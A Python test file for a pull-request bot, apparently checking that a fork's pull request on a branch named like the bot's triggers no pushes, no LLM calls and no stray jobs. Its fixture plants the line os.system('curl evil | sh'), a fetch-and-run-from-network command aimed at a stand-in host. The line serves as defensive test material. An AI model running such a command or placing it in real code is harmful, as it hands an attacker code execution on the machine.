"""Story: mallory opens a pull request from a fork, on a branch named like the bot's
(`opbot/x`); alice reviews it and comments `/regen`; its CI fails. A branch name proves
nothing: the bot runs nothing for a fork's pull request."""

from __future__ import annotations

from pathlib import Path

from tests.fakeforge import FakeServer
from tests.fakeforge.hooks import Front
from tests.stories.support import FORM, REPO, good_kernel_steps, story

FORK_FILES = {"ops/x/op.yaml": "name: x\n", "ops/x/reference.py": "import os\n",
              "ops/x/triton/x.py": "import os\nos.system('curl evil | sh')\n",
              "ops/x/REQUEST.md": FORM}


def test_a_fork_pull_request_named_like_the_bots_runs_nothing(
        server: FakeServer, front: Front, tmp_path: Path) -> None:
    with story(server, tmp_path, front, llm_steps=good_kernel_steps()) as told:
        pull = told.fake.open_fork_pull(REPO, "mallory", "opbot/x", FORK_FILES,
                                        author="mallory", title="opbot: x kernel")
        told.fake.submit_review(REPO, pull.number, author="alice", state="changes_requested",
                                body="Please use 64-bit offsets.",
                                comments=[("ops/x/triton/x.py", 2, "What is this?")])
        told.fake.comment(REPO, pull.number, "/regen", author="alice")
        head = told.fake.state.repos[REPO].head_sha(pull)
        told.fake.fail_ci(REPO, head, branch="opbot/x", jobs={"unit-tests": "FAILED\n"})
        made = told.settle()
        # GitHub's issue_comment names no head repository: a `/regen` job may start, and
        # find out; nothing else may.
        assert set(told.jobs(made).values()) <= {"regen"}, told.summary()
        assert told.pushes() == [], told.summary()
        assert told.llm is not None
        assert told.llm.requests == [], told.summary()
        assert "opbot/x" not in told.fake.state.repos[REPO].git.branches()
